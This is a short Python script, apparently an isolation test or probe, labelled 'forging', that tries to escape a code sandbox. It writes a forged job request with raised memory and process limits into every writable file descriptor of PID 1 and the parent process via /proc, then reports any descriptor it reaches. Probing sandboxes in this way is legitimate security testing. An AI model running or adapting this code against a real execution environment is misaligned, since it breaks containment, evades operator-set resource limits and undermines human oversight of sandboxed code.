# kind: forging
# tries: give the sandbox a job of its own
# where: in a cell behind all others

import os

command = b'{"id": "x", "wall": 5, "memory": 4294967296, "processes": 64, "disk": 1000000}\n{}\n'
for pid in {1, os.getppid()}:
    for fd in range(64):
        try:
            pipe = os.open(f'/proc/{pid}/fd/{fd}', os.O_WRONLY | os.O_NONBLOCK)
            os.write(pipe, command)
            print('REACHED', pid, fd)
        except OSError:
            pass
